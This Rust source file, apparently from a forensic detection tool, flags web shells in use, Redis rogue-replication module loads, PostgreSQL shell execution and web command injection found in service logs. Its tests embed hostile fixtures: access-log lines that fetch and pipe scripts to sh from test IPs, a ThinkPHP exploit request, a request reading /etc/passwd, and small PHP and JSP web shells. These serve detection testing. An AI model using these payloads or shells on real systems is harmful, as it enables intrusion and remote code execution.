//! What network services logged about their clients ([`crate::model::service_logs`]), judged:
//! - `MT-ENT-001`: a web request carried a shell command to a server-side script (a web shell in use);
//! - `MT-ENT-002`: a client made Redis a replica of a master, or Redis loaded a module from a temp place
//!   or right after such a replication (HeadCrab, P2Pinfect);
//! - `MT-ENT-003`: PostgreSQL ran a shell command (`COPY ... FROM PROGRAM`: PG_MEM, CPU_HU, Kinsing);
//! - `MT-ENT-004`: a web request injected shell commands into a parameter the application hands to a
//!   shell (`?host=127.0.0.1;id;uname -a`): the page is the application's own, context, never an artifact.
//!
//! A log line is history: alone it is low (the log is evidence, never an artifact). A finding is high
//! when what the log names is still on the host — the script the request reached, the module file Redis
//! loaded from a temp place or through a client's replication — and that file is its artifact. The
//! entry-point inference reads the same model fact for the way in.

use std::collections::BTreeMap;

use minetrace_schemas::escape_bytes;
use minetrace_schemas::findings::{Finding, Role, Severity};
use minetrace_schemas::records::file::FileRecord;
use minetrace_schemas::records::package::PackageVerdict;

use super::webshells;
use crate::detect::finding::{file_subject, finding, FindingExt};
use crate::detect::rules;
use crate::detect::runtime::support::{service_of, Names};
use crate::detect::Context;
use crate::indicators::PathClass;
use crate::model::service_logs::{
    request_command, request_injection, request_path, ServiceLogLine,
};
use crate::parse::service_log::LogEvent;

/// Log lines quoted per finding.
const QUOTED: usize = 8;

pub fn detect(ctx: &Context) -> Vec<Finding> {
    let mut out = Vec::new();
    out.extend(web_commands(ctx));
    out.extend(web_injections(ctx));
    out.extend(redis(ctx));
    out.extend(database(ctx));
    out
}

/// ` from ADDRESS` for a line whose client the log names, else nothing.
fn from_client(l: &ServiceLogLine) -> String {
    l.log
        .client
        .map(|c| format!(" from {c}"))
        .unwrap_or_default()
}

fn quote(l: &ServiceLogLine, what: String) -> String {
    format!("{}: {what}", l.location())
}

/// The scripts a request path names, for requests logged in these lines' logs: in each log's own
/// document roots where the web servers' configuration says them (the root joined with the path,
/// `.` and `..` resolved as the server does), else — a log no configuration names — in every web root,
/// by the path's end (review of train 3, item 1: a request one virtual host logged names no page of
/// another).
fn scripts_at<'a, T>(
    ctx: &'a Context,
    request: &[u8],
    hits: &[(&ServiceLogLine, T)],
) -> Vec<&'a FileRecord> {
    if request.len() < 2 || request.ends_with(b"/") {
        return Vec::new();
    }
    let Some(normal) = normalized(request) else {
        return Vec::new();
    };
    let mut logs: Vec<&[u8]> = hits.iter().map(|(l, _)| &*l.path).collect();
    logs.sort_unstable();
    logs.dedup();
    let mut pages: Vec<Vec<u8>> = Vec::new();
    let mut anywhere = false;
    for log in logs {
        match ctx.model.web_sites.roots_of(log) {
            Some(roots) => pages.extend(roots.iter().map(|r| [*r, normal.as_slice()].concat())),
            None => anywhere = true,
        }
    }
    ctx.model
        .regular_files()
        .filter(|f| {
            let path = f.path.as_bytes();
            pages.iter().any(|p| p.as_slice() == path)
                || (anywhere
                    && ctx.iocs.paths().is(PathClass::WebRoot, path)
                    && path.ends_with(request))
        })
        .collect()
}

/// A request path with `.` and `..` segments resolved and repeated `/` collapsed (`/a/../b.php` is
/// `/b.php`), as a web server maps it onto its root; `None` for one that climbs above it.
fn normalized(request: &[u8]) -> Option<Vec<u8>> {
    let mut parts: Vec<&[u8]> = Vec::new();
    for seg in request.split(|b| *b == b'/') {
        match seg {
            b"" | b"." => {}
            b".." => {
                parts.pop()?;
            }
            s => parts.push(s),
        }
    }
    let mut out = Vec::new();
    for p in parts {
        out.push(b'/');
        out.extend_from_slice(p);
    }
    Some(out)
}

/// The web requests a reading of their target keeps (`read`: [`request_command`], [`request_injection`]),
/// by requested path, in log order, with what the reading found.
fn requests_by_path<'a, T>(
    ctx: &'a Context,
    read: impl Fn(&[u8]) -> Option<T>,
) -> BTreeMap<Vec<u8>, Vec<(&'a ServiceLogLine, T)>> {
    let mut by_path: BTreeMap<Vec<u8>, Vec<(&ServiceLogLine, T)>> = BTreeMap::new();
    for l in &ctx.model.service_logs {
        let LogEvent::WebRequest { target, .. } = &l.log.event else {
            continue;
        };
        if let Some(found) = read(target) {
            by_path
                .entry(request_path(target))
                .or_default()
                .push((l, found));
        }
    }
    by_path
}

/// Whether a logged request reached the script it names: a 2xx answer. A 3xx is often a redirect that
/// answers every request without running any page (port 80 to 443); a 5xx is a proxy whose backend was
/// down (502, 503, 504) or a page that failed: neither ran a command the log can vouch for.
fn reached(l: &ServiceLogLine) -> bool {
    matches!(&l.log.event, LogEvent::WebRequest { status, .. } if (200..300).contains(status))
}

/// How long before the first command request to a script its last write still makes it deployed for
/// that use: a shell uploaded or deployed (Tomcat's manager, a plugin upload) is used within minutes;
/// an application's page was written at its install or update, long before the internet's probes.
pub const DEPLOYED_BEFORE_USE_SECS: i64 = 3600;

/// How close together a deploy writes the files of one directory: an unzip, a WAR unpacked, an rsync,
/// a CMS's core update all write a directory's files within the same minute.
pub const DEPLOY_WINDOW_SECS: i64 = 60;

/// Other files of a page's directory written within [`DEPLOY_WINDOW_SECS`] of it that make its write
/// part of the application's deploy, not a drop: a web shell is one file (at most a helper beside it),
/// an update or install rewrites its directory.
pub const DEPLOY_MIN_SIBLINGS: usize = 3;

/// Whether `file` was written within [`DEPLOYED_BEFORE_USE_SECS`] before the first logged (dated,
/// reached) command request to it, and alone: the intrusion deployed it to run that command. A page
/// whose bytes are still its package's (`Match`: a changed packaged page keeps the time signal), or one
/// written with the rest of an existing directory ([`written_with_its_directory`]: the admin's update of
/// the application in that hour), is the application's, whatever probe followed.
fn written_for_use(ctx: &Context, file: &FileRecord, hits: &[(&ServiceLogLine, Vec<u8>)]) -> bool {
    let Some(first) = hits.iter().filter_map(|(l, _)| l.log.time).min() else {
        return false;
    };
    let written = file.mtime.secs;
    let since = first.saturating_sub(DEPLOYED_BEFORE_USE_SECS);
    let packaged = ctx
        .model
        .package_check(file.path.as_bytes())
        .is_some_and(|c| c.verdict == PackageVerdict::Match);
    written <= first
        && written >= since
        && !packaged
        && !written_with_its_directory(ctx, file, since)
}

/// Whether at least [`DEPLOY_MIN_SIBLINGS`] other regular files of `file`'s directory were written
/// within [`DEPLOY_WINDOW_SECS`] of it, in a directory that existed before `since` (its record's birth
/// time, else the birth times of those files): an update of an existing application (a CMS update
/// touching dozens of files), not one file dropped, nor a plugin or theme archive the drop unpacked
/// into a new directory. What the bundle cannot date is no update (the finding stays a review item).
fn written_with_its_directory(ctx: &Context, file: &FileRecord, since: i64) -> bool {
    let path = file.path.as_bytes();
    let dir = crate::parse::dirname(path);
    let at = file.mtime.secs;
    let born_before = |f: &FileRecord| f.btime.is_some_and(|t| t.secs > 0 && t.secs < since);
    let siblings: Vec<&FileRecord> = ctx
        .model
        .regular_files()
        .filter(|g| {
            let p = g.path.as_bytes();
            p != path
                && crate::parse::dirname(p) == dir
                && g.mtime.secs.abs_diff(at) <= DEPLOY_WINDOW_SECS.unsigned_abs()
        })
        .collect();
    if siblings.len() < DEPLOY_MIN_SIBLINGS {
        return false;
    }
    match ctx.model.file(dir).and_then(|d| d.btime) {
        Some(t) if t.secs > 0 => t.secs < since,
        _ => siblings.iter().filter(|g| born_before(g)).count() >= DEPLOY_MIN_SIBLINGS,
    }
}

/// `MT-ENT-001`, one finding per requested script. The log names a path, and any client sends any query
/// to any page (the internet's ThinkPHP probe asks every `index.php` to `wget` a kit; a
/// `GET /wp-config.php?x=curl ...|sh` picks its own page): a script at that path is the finding's
/// artifact only when something in the file or its place says the intrusion made it
/// ([`webshells::Judge::intrusions`], or [`written_for_use`]). The finding is high only when that reason
/// is conclusive (MT-PER-070 judges the content a web shell at high, a hidden name); a weaker one (a
/// write directory, a review-level content verdict, a write just before the request: a deploy followed
/// by a probe looks the same) makes it medium, so the plan lists the script as a review item instead of
/// quarantining it. Any other page is the application that was asked, context a remediation never
/// touches, and the finding stays low: the log is the evidence.
fn web_commands(ctx: &Context) -> Vec<Finding> {
    let judge = webshells::Judge::new(ctx);
    let mut out = Vec::new();
    for (script, hits) in requests_by_path(ctx, |t| request_command(t, ctx.iocs)) {
        let hits: Vec<_> = hits.into_iter().filter(|(l, _)| reached(l)).collect();
        if hits.is_empty() {
            continue;
        }
        let files: Vec<(&FileRecord, Option<(bool, String)>)> = scripts_at(ctx, &script, &hits)
            .into_iter()
            .map(|f| {
                let why = judge.intrusions(ctx, f).or_else(|| {
                    written_for_use(ctx, f, &hits).then(|| {
                        (
                            false,
                            "written shortly before the first command request to it".to_owned(),
                        )
                    })
                });
                (f, why)
            })
            .collect();
        let severity = if files
            .iter()
            .any(|(_, why)| why.as_ref().is_some_and(|w| w.0))
        {
            Severity::High
        } else if files.iter().any(|(_, why)| why.is_some()) {
            Severity::Medium
        } else {
            Severity::Low
        };
        let mut f = finding(&rules::ENT_001, severity).evidence(format!(
            "{} request(s) to {} carried a shell command",
            hits.len(),
            escape_bytes(&script)
        ));
        for (l, cmd) in hits.iter().take(QUOTED) {
            let client = from_client(l);
            f = f.evidence(quote(
                l,
                format!("request{client} ran: {}", escape_bytes(cmd)),
            ));
        }
        if files.is_empty() {
            f = f.evidence("no script at that path is on disk now (the log is the evidence)");
        }
        for (file, why) in files {
            f = match why {
                Some((_, why)) => f
                    .subject(file_subject(file))
                    .evidence(format!("the script on disk: {} ({why})", file.path.escaped())),
                None => f.subject_as(file_subject(file), Role::Context).evidence(format!(
                    "a page on disk at that path: {} (nothing in it or its place says the intrusion made it: the application asked, never removed)",
                    file.path.escaped()
                )),
            };
        }
        out.push(f);
    }
    out
}

/// `MT-ENT-004`, one finding per requested page: requests whose parameter carried data, then shell
/// commands ([`request_injection`]). Low: internet scanners spray such payloads at every page, and the log
/// cannot say whether the page passed the value to a shell; what the commands left (a shell child of
/// the server, a kit) is judged by its own rules, and the entry inference reads these lines for the way
/// in. The page on disk is the application's own code with a bug, its owner's to fix: a context subject,
/// never an artifact (a remediation never touches it). The log is the evidence.
fn web_injections(ctx: &Context) -> Vec<Finding> {
    let mut out = Vec::new();
    for (page, hits) in requests_by_path(ctx, |t| request_injection(t, ctx.iocs)) {
        let mut f = finding(&rules::ENT_004, Severity::Low).evidence(format!(
            "{} request(s) to {} appended shell commands to a parameter's value",
            hits.len(),
            escape_bytes(&page)
        ));
        for (l, inj) in hits.iter().take(QUOTED) {
            let client = from_client(l);
            f = f.evidence(quote(
                l,
                format!(
                    "request{client} injected {} ({})",
                    escape_bytes(&inj.value),
                    escape_bytes(inj.found.join(", ").as_bytes())
                ),
            ));
        }
        for file in scripts_at(ctx, &page, &hits) {
            f = f.subject_as(file_subject(file), Role::Context).evidence(format!(
                "the application's page on disk: {} (its bug is its owner's to fix; nothing to remove)",
                file.path.escaped()
            ));
        }
        out.push(f);
    }
    out
}

/// How long after a client made Redis a replica a module load is that replication's doing: the rogue
/// master ships the module as its "RDB" and `MODULE LOAD` follows within seconds (HeadCrab, P2Pinfect).
pub const MODULE_AFTER_REPLICA_SECS: i64 = 600;

/// `MT-ENT-002`: one finding per Redis log that shows a client-requested replication, or a module loaded
/// from a temp or hidden place or right after such a replication. An admin's module (`loadmodule` at
/// start-up, installed outside temp places) and a replica of its configured master are ordinary.
fn redis(ctx: &Context) -> Vec<Finding> {
    let mut by_log: BTreeMap<&[u8], Vec<&ServiceLogLine>> = BTreeMap::new();
    for l in &ctx.model.service_logs {
        if matches!(
            l.log.event,
            LogEvent::RedisModuleLoaded { .. } | LogEvent::RedisReplicaOf { .. }
        ) {
            by_log.entry(&l.path[..]).or_default().push(l);
        }
    }
    let mut out = Vec::new();
    for (path, lines) in by_log {
        // The accounts the service writing this log runs as: a module file one of them owns was
        // written by the server itself (the replication payload saved to its directory).
        let writer = ctx.iocs.services().writing_log(path);
        let redis_uids: Vec<u32> = ctx
            .model
            .processes
            .iter()
            .filter(|p| {
                writer.is_some_and(|w| {
                    service_of(ctx.iocs, p, &Names::of(p)).is_some_and(|s| s.name == w.name)
                })
            })
            .map(|p| p.uid.effective)
            .filter(|u| *u != 0)
            .collect();
        let mut shown: Vec<(&ServiceLogLine, String)> = Vec::new();
        let mut modules: Vec<&FileRecord> = Vec::new();
        let mut requested: Option<i64> = None;
        for l in &lines {
            match &l.log.event {
                LogEvent::RedisReplicaOf { master } => {
                    requested = l.log.time.or(requested);
                    shown.push((
                        l,
                        format!(
                            "made a replica of {}{}",
                            escape_bytes(master.as_bytes()),
                            l.log
                                .client
                                .map(|c| format!(" by client {c}"))
                                .unwrap_or_default()
                        ),
                    ));
                }
                LogEvent::RedisModuleLoaded { name, path: m } => {
                    let odd = ctx.iocs.paths().is(PathClass::KitProne, m);
                    let after_replica = match (requested, l.log.time) {
                        (Some(r), Some(t)) => {
                            t >= r && t.saturating_sub(r) <= MODULE_AFTER_REPLICA_SECS
                        }
                        _ => false,
                    };
                    if !odd && !after_replica {
                        continue;
                    }
                    let mut why = Vec::new();
                    if odd {
                        why.push("from a temp or hidden place".to_owned());
                    }
                    if after_replica {
                        why.push("right after a client made the server a replica".to_owned());
                    }
                    shown.push((
                        l,
                        format!(
                            "module {} loaded from {} ({})",
                            escape_bytes(name.as_bytes()),
                            escape_bytes(m),
                            why.join(", ")
                        ),
                    ));
                    if let Some(file) = ctx.model.file(m) {
                        if !modules.contains(&file) {
                            modules.push(file);
                        }
                    }
                }
                _ => {}
            }
        }
        if shown.is_empty() {
            continue;
        }
        let severity = if modules.is_empty() {
            Severity::Low
        } else {
            Severity::High
        };
        let mut f = finding(&rules::ENT_002, severity);
        for (l, what) in shown.into_iter().take(QUOTED) {
            f = f.evidence(quote(l, what));
        }
        if modules.is_empty() {
            f = f.evidence(format!(
                "no such module file is on disk now ({} is the evidence)",
                escape_bytes(path)
            ));
        }
        for m in modules {
            f = f.subject(file_subject(m)).evidence(format!(
                "the module on disk: {} (owner uid {}{})",
                m.path.escaped(),
                m.uid,
                if redis_uids.contains(&m.uid) {
                    ", Redis's account: the server wrote it"
                } else {
                    ""
                }
            ));
        }
        out.push(f);
    }
    out
}

/// `MT-ENT-003`: one finding per database log.
fn database(ctx: &Context) -> Vec<Finding> {
    let mut by_log: BTreeMap<&[u8], Vec<&ServiceLogLine>> = BTreeMap::new();
    for l in &ctx.model.service_logs {
        if matches!(l.log.event, LogEvent::DbProgram { .. }) {
            by_log.entry(&l.path[..]).or_default().push(l);
        }
    }
    let mut out = Vec::new();
    for (path, lines) in by_log {
        let mut f = finding(&rules::ENT_003, Severity::Low);
        for l in lines.iter().take(QUOTED) {
            let LogEvent::DbProgram { statement } = &l.log.event else {
                continue;
            };
            let client = l
                .log
                .client
                .map(|c| format!(" (client {c})"))
                .unwrap_or_default();
            f = f.evidence(quote(l, format!("{}{client}", escape_bytes(statement))));
        }
        if let Some(file) = ctx.model.file(path) {
            f = f.subject(file_subject(file));
        }
        out.push(f);
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::detect::Context;
    use crate::indicators::Indicators;
    use crate::model::fixture;

    const ACCESS: &[u8] = b"203.0.113.88 - - [10/Jun/2025:11:02:16 +0000] \"GET /mgmt/cmd.jsp?c=id HTTP/1.1\" 200 38\n\
203.0.113.88 - - [10/Jun/2025:11:02:19 +0000] \"GET /mgmt/cmd.jsp?c=curl%20-fsSL%20http%3A%2F%2F203.0.113.88%2Ft.sh%7Csh HTTP/1.1\" 200 0\n\
10.0.0.4 - - [10/Jun/2025:11:03:00 +0000] \"GET /search?q=bash+tutorial HTTP/1.1\" 200 100\n";

    #[test]
    fn web_shell_in_use_is_high_while_on_disk() {
        let iocs = Indicators::builtin();
        let with_shell = fixture::model(
            vec![
                fixture::file(
                    b"/var/log/tomcat9/localhost_access_log.2025-06-10.txt",
                    Some(ACCESS),
                ),
                fixture::file(
                    b"/var/lib/tomcat9/webapps/mgmt/cmd.jsp",
                    Some(b"<% Runtime.getRuntime().exec(request.getParameter(\"c\")); %>"),
                ),
            ],
            vec![],
        );
        let found = detect(&Context {
            model: &with_shell,
            iocs: &iocs,
        });
        assert_eq!(found.len(), 1, "{found:?}");
        let f = &found[0];
        assert_eq!(
            (f.rule.as_str(), f.severity),
            ("MT-ENT-001", Severity::High)
        );
        assert!(f
            .evidence
            .iter()
            .any(|e| e.contains("curl -fsSL http://203.0.113.88/t.sh|sh")));
        // Gone from disk: the log alone is low; the search for "bash tutorial" is nobody's shell.
        let without = fixture::model(
            vec![fixture::file(b"/var/log/nginx/access.log", Some(ACCESS))],
            vec![],
        );
        let found = detect(&Context {
            model: &without,
            iocs: &iocs,
        });
        assert_eq!(found.len(), 1);
        assert_eq!(found[0].severity, Severity::Low);
        assert!(found[0].subjects.is_empty());
    }

    /// Review of train 2, item 2: a logged request alone never makes a web-root page an artifact. The
    /// ThinkPHP probe (answered 200 by WordPress: a search) and a `wp-config.php?x=curl ...|sh` leave
    /// every `index.php` and `wp-config.php` context of a low finding, and the plan acts on none; a 504
    /// to a real web shell reached nothing; a web shell a request reached stays high, its artifact.
    #[test]
    fn a_request_alone_makes_no_page_an_artifact() {
        let log: &[u8] = b"198.51.100.7 - - [10/Jun/2025:11:02:16 +0000] \"GET /index.php?s=/Index/%5Cthink%5Capp/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=wget%20http://198.51.100.7/t.sh%20-O%20/tmp/t.sh;sh%20/tmp/t.sh HTTP/1.1\" 200 5120\n\
198.51.100.7 - - [10/Jun/2025:11:02:17 +0000] \"GET /wp-config.php?x=curl+http://198.51.100.7/b%7Csh HTTP/1.1\" 200 0\n\
198.51.100.7 - - [10/Jun/2025:11:02:18 +0000] \"GET /wp-content/uploads/2025/06/up.php?c=curl+-fsSL+http://198.51.100.7/k.sh%7Csh HTTP/1.1\" 504 160\n";
        let shell_hit: &[u8] = b"198.51.100.7 - - [10/Jun/2025:11:03:00 +0000] \"GET /wp-content/uploads/2025/06/up.php?c=curl+-fsSL+http://198.51.100.7/k.sh%7Csh HTTP/1.1\" 200 0\n";
        let model = |log: &[u8]| {
            fixture::model(
                vec![
                    fixture::file(b"/var/log/nginx/access.log", Some(log)),
                    fixture::file(
                        b"/var/www/html/index.php",
                        Some(b"<?php\ndefine( 'WP_USE_THEMES', true );\nrequire __DIR__ . '/wp-blog-header.php';\n"),
                    ),
                    fixture::file(
                        b"/var/www/html/wp-admin/index.php",
                        Some(b"<?php\nrequire_once __DIR__ . '/admin.php';\n"),
                    ),
                    fixture::file(
                        b"/var/www/html/wp-content/themes/twentytwentyfour/index.php",
                        Some(b"<?php\n// Silence is golden.\n"),
                    ),
                    fixture::file(
                        b"/var/www/html/wp-config.php",
                        Some(b"<?php\ndefine( 'DB_NAME', 'wp' );\n"),
                    ),
                    fixture::file(
                        b"/var/www/html/wp-content/uploads/2025/06/up.php",
                        Some(b"<?php system($_GET['c']); ?>\n"),
                    ),
                ],
                vec![],
            )
        };
        let iocs = Indicators::builtin();
        let probed = model(log);
        let found = detect(&Context {
            model: &probed,
            iocs: &iocs,
        });
        let ent: Vec<&Finding> = found.iter().filter(|f| f.rule == "MT-ENT-001").collect();
        assert_eq!(ent.len(), 2, "{found:#?}");
        for f in &ent {
            assert_eq!(f.severity, Severity::Low, "{f:#?}");
            assert!(!f.subjects.is_empty(), "{f:#?}");
            assert!(f.subjects.iter().all(|s| s.role == Role::Context), "{f:#?}");
        }
        let plan = crate::remediate::test_plan::plan_of(
            model(log),
            crate::remediate::test_plan::doc(found),
        );
        let acted = format!("{:?}", plan.items);
        assert!(
            !acted.contains("index.php") && !acted.contains("wp-config.php"),
            "{acted}"
        );
        let mut both = log.to_vec();
        both.extend_from_slice(shell_hit);
        let used = model(&both);
        let found = detect(&Context {
            model: &used,
            iocs: &iocs,
        });
        let shell = found
            .iter()
            .find(|f| {
                f.rule == "MT-ENT-001"
                    && f.evidence.first().is_some_and(|e| {
                        e.starts_with("1 request(s) to /wp-content/uploads/2025/06/up.php")
                    })
            })
            .unwrap_or_else(|| panic!("{found:#?}"));
        assert_eq!(shell.severity, Severity::High);
        assert!(shell.subjects.iter().any(|s| s.role == Role::Artifact
            && matches!(&s.subject, minetrace_schemas::findings::Subject::File { path, .. } if path.as_bytes() == b"/var/www/html/wp-content/uploads/2025/06/up.php")));
    }

    /// Review of train 2, item 6: a web shell's ordinary command lines (`cd /tmp;wget ...`, `echo
    /// <b64>|base64 -d|bash`, `ls -la;id;uname -a`, `;curl ...|sh`) are its commands: MT-ENT-001 high
    /// with the shell the artifact, no MT-ENT-004 making it context.
    #[test]
    fn a_web_shells_command_lines_are_its_commands() {
        let log: &[u8] = b"198.51.100.7 - - [10/Jun/2025:11:02:16 +0000] \"GET /uploads/s.php?c=cd+/tmp%3Bwget+http://198.51.100.7/a%3Bchmod+%2Bx+a%3B./a HTTP/1.1\" 200 0\n\
198.51.100.7 - - [10/Jun/2025:11:02:17 +0000] \"GET /uploads/s.php?c=echo+ZWNobyBoaQ%3D%3D%7Cbase64+-d%7Cbash HTTP/1.1\" 200 0\n\
198.51.100.7 - - [10/Jun/2025:11:02:18 +0000] \"GET /uploads/s.php?c=ls+-la%3Bid%3Buname+-a HTTP/1.1\" 200 0\n\
198.51.100.7 - - [10/Jun/2025:11:02:19 +0000] \"GET /uploads/s.php?c=%3Bcurl+-s+http://198.51.100.7/b%7Csh HTTP/1.1\" 200 0\n";
        let model = fixture::model(
            vec![
                fixture::file(b"/var/log/nginx/access.log", Some(log)),
                fixture::file(
                    b"/var/www/html/uploads/s.php",
                    Some(b"<?php $x = 'sys' . 'tem'; $x(str_rot13($_REQUEST['c'])); ?>\n"),
                ),
            ],
            vec![],
        );
        let iocs = Indicators::builtin();
        let found = detect(&Context {
            model: &model,
            iocs: &iocs,
        });
        assert_eq!(found.len(), 1, "{found:#?}");
        let f = &found[0];
        assert_eq!(
            (f.rule.as_str(), f.severity),
            ("MT-ENT-001", Severity::High)
        );
        assert_eq!(
            f.evidence.first().map(String::as_str),
            Some("4 request(s) to /uploads/s.php carried a shell command")
        );
        assert!(
            f.subjects.iter().all(|s| s.role == Role::Artifact),
            "{f:#?}"
        );
    }

    /// A shell whose content MT-PER-070 does not score (Tomcat manager's two-line cmd.jsp: the input in
    /// a variable, exec on the next line) written within DEPLOYED_BEFORE_USE_SECS before the first
    /// command request to it is the finding's artifact, but at medium: a deploy followed by the
    /// internet's routine probe looks the same, so the plan lists it for review instead of quarantining
    /// it (review of train 3, item 2). The same page written a day earlier is the application's
    /// (context, low).
    #[test]
    fn a_script_deployed_just_before_its_use_is_a_review_artifact() {
        let jsp: &[u8] = b"<%@ page import=\"java.io.*\" %><%\nString c = request.getParameter(\"c\");\nProcess p = Runtime.getRuntime().exec(new String[]{\"/bin/sh\", \"-c\", c});\n%>\n";
        // 10/Jun/2025:11:02:19 +0000
        let first_use = 1_749_553_339;
        let iocs = Indicators::builtin();
        for (written, severity, role) in [
            (first_use - 4, Severity::Medium, Role::Artifact),
            (first_use - 86_400, Severity::Low, Role::Context),
        ] {
            let (mut rec, content) =
                fixture::file(b"/var/lib/tomcat9/webapps/mgmt/cmd.jsp", Some(jsp));
            rec.mtime.secs = written;
            let model = fixture::model(
                vec![
                    fixture::file(
                        b"/var/log/tomcat9/localhost_access_log.2025-06-10.txt",
                        Some(ACCESS),
                    ),
                    (rec, content),
                ],
                vec![],
            );
            let found = detect(&Context {
                model: &model,
                iocs: &iocs,
            });
            assert_eq!(found.len(), 1, "{found:#?}");
            let f = &found[0];
            assert_eq!(f.severity, severity, "{f:#?}");
            assert!(
                !f.subjects.is_empty() && f.subjects.iter().all(|s| s.role == role),
                "{f:#?}"
            );
        }
    }

    /// Issue 13: a page written within the hour before its first command request is the intrusion's
    /// only when it was written alone. The look-alike: the admin's update of an existing application
    /// half an hour before the internet's probe rewrote the page with 40 other files of its directory in
    /// the same minute (a deploy): the page is the application's, context of a low finding, never a
    /// review artifact; so is a page whose bytes are its package's. The attack: one new file in a
    /// directory whose other files are a year old, or written minutes after such an update; a page of
    /// its package changed since (review of train 2, item 2); a plugin archive the drop unpacked into a
    /// new directory (item 9): each stays the medium finding's artifact (a review item).
    #[test]
    fn a_page_written_with_its_applications_update_is_no_drop() {
        let iocs = Indicators::builtin();
        // 10/Jun/2025:11:02:19 +0000
        let first_use = 1_749_553_339;
        let log: &[u8] = b"203.0.113.88 - - [10/Jun/2025:11:02:19 +0000] \"GET /app/admin/status.jsp?c=curl%20-fsSL%20http%3A%2F%2F203.0.113.88%2Ft.sh%7Csh HTTP/1.1\" 200 0\n\
10.0.0.4 - - [10/Jun/2025:11:03:00 +0000] \"GET /app/ HTTP/1.1\" 200 100\n";
        let app_page: &[u8] =
            b"<%@ page contentType=\"text/html\" %><html><body>status: OK</body></html>\n";
        let shell: &[u8] = b"<%@ page import=\"java.io.*\" %><%\nString c = request.getParameter(\"c\");\nProcess p = Runtime.getRuntime().exec(new String[]{\"/bin/sh\", \"-c\", c});\n%>\n";
        let dir = "/var/lib/tomcat9/webapps/app/admin";
        let mut ino = 50_000;
        let mut file = |name: &str, (written, born): (i64, i64), content: &[u8]| {
            let (mut r, c) = fixture::file(format!("{dir}/{name}").as_bytes(), Some(content));
            r.mtime.secs = written;
            r.btime = Some(minetrace_schemas::records::file::FileTime {
                secs: born,
                nanos: 0,
            });
            ino += 1;
            r.ino = ino;
            (r, c)
        };
        let update = first_use - 1_800;
        let year_before = first_use - 365 * 86_400;
        let old = (year_before, year_before);
        let updated = (update, year_before);
        let dropped = (first_use - 4, first_use - 4);
        let medium = Some(Severity::Medium);
        // (case, the 40 other files, status.jsp, its content, its package verdict, expected)
        let cases = [
            ("update", updated, updated, app_page, None, None),
            ("drop", old, dropped, shell, None, medium),
            ("drop after update", updated, dropped, shell, None, medium),
            (
                "packaged",
                old,
                dropped,
                app_page,
                Some(PackageVerdict::Match),
                None,
            ),
            (
                "packaged, changed",
                old,
                dropped,
                shell,
                Some(PackageVerdict::Mismatch),
                medium,
            ),
            (
                "archive unpacked into a new directory",
                (update, update),
                (update, update),
                shell,
                None,
                medium,
            ),
        ];
        for (case, others, page, content, verdict, want) in cases {
            let checks = verdict
                .map(|v| {
                    let mut c =
                        fixture::not_owned(format!("{dir}/status.jsp").as_bytes(), "running-exe");
                    c.verdict = v;
                    c.package = Some("app-web".into());
                    c
                })
                .into_iter()
                .collect();
            let mut files = vec![fixture::file(
                b"/var/log/tomcat9/localhost_access_log.2025-06-10.txt",
                Some(log),
            )];
            for i in 0..40 {
                let (written, born) = others;
                files.push(file(
                    &format!("page{i:02}.jsp"),
                    (written + i % 30, born),
                    app_page,
                ));
            }
            files.push(file("status.jsp", page, content));
            let model = fixture::model(files, checks);
            let found: Vec<_> = detect(&Context {
                model: &model,
                iocs: &iocs,
            })
            .into_iter()
            .filter(|f| f.rule == rules::ENT_001.id)
            .collect();
            assert_eq!(found.len(), 1, "{case}: {found:#?}");
            let f = &found[0];
            match want {
                Some(sev) => {
                    assert_eq!(f.severity, sev, "{case}: {f:#?}");
                    assert!(
                        f.subjects.iter().all(|s| s.role == Role::Artifact),
                        "{case}: {f:#?}"
                    );
                }
                None => {
                    assert_eq!(f.severity, Severity::Low, "{case}: {f:#?}");
                    assert!(
                        f.subjects.iter().all(|s| s.role == Role::Context),
                        "{case}: {f:#?}"
                    );
                }
            }
            assert_eq!(f.subjects.len(), 1, "{case}: {f:#?}");
        }
    }

    /// A library's own script in a directory named like a write place (`vendor/psr/cache/src/`) that the
    /// internet's probe asks to run a download is no high artifact: a write directory alone is a reason
    /// for review (medium), never for quarantine unasked (review of train 3, item 1); a 3xx answer (a
    /// redirect that runs no page) reaches nothing.
    #[test]
    fn a_probe_to_a_librarys_script_in_a_cache_directory_is_for_review_only() {
        let iocs = Indicators::builtin();
        let php: &[u8] = b"<?php\nnamespace Psr\\Cache;\ninterface CacheItemInterface { public function getKey(); }\n";
        for (status, expected) in [("200", Some(Severity::Medium)), ("301", None)] {
            let log = format!(
                "198.51.100.7 - - [10/Jun/2025:11:02:18 +0000] \"GET /wp-content/plugins/p/vendor/psr/cache/src/CacheItemInterface.php?c=curl+-fsSL+http://198.51.100.7/k.sh%7Csh HTTP/1.1\" {status} 160\n\
10.0.0.4 - - [10/Jun/2025:11:03:00 +0000] \"GET /?s=bash+tutorial HTTP/1.1\" 200 100\n\
10.0.0.4 - - [10/Jun/2025:11:03:05 +0000] \"GET /wp-login.php HTTP/1.1\" 200 100\n"
            );
            let (mut rec, content) = fixture::file(
                b"/var/www/html/wp-content/plugins/p/vendor/psr/cache/src/CacheItemInterface.php",
                Some(php),
            );
            rec.mtime.secs = 1_600_000_000;
            let model = fixture::model(
                vec![
                    fixture::file(b"/var/log/nginx/access.log", Some(log.as_bytes())),
                    (rec, content),
                ],
                vec![],
            );
            let found: Vec<_> = detect(&Context {
                model: &model,
                iocs: &iocs,
            })
            .into_iter()
            .filter(|f| f.rule == rules::ENT_001.id)
            .collect();
            assert_eq!(
                found.first().map(|f| f.severity),
                expected,
                "{status}: {found:#?}"
            );
            assert!(
                found.iter().all(|f| f.severity < Severity::High),
                "{found:#?}"
            );
        }
    }

    /// An injection into an application's page is evidence of how the attacker tried to get in, never a
    /// web shell: low, the page a context subject (a remediation leaves it), and the download it carried
    /// is no MT-ENT-001 making the page an artifact.
    #[test]
    fn an_injection_into_a_page_is_evidence_and_the_page_context() {
        let iocs = Indicators::builtin();
        let log: &[u8] = b"127.0.0.1 - - [14/Oct/2025:09:12:01 +0000] \"GET /status.php?host=10.0.0.1 HTTP/1.1\" 200 402\n\
203.0.113.9 - - [14/Oct/2025:21:40:31 +0000] \"GET /status.php?host=127.0.0.1%3Bid%3Buname%20-a%3Bcat%20/etc/passwd HTTP/1.1\" 504 167\n\
203.0.113.9 - - [14/Oct/2025:21:41:02 +0000] \"GET /status.php?host=127.0.0.1%3Bwget%20http://203.0.113.9/a%7Csh HTTP/1.1\" 200 402\n\
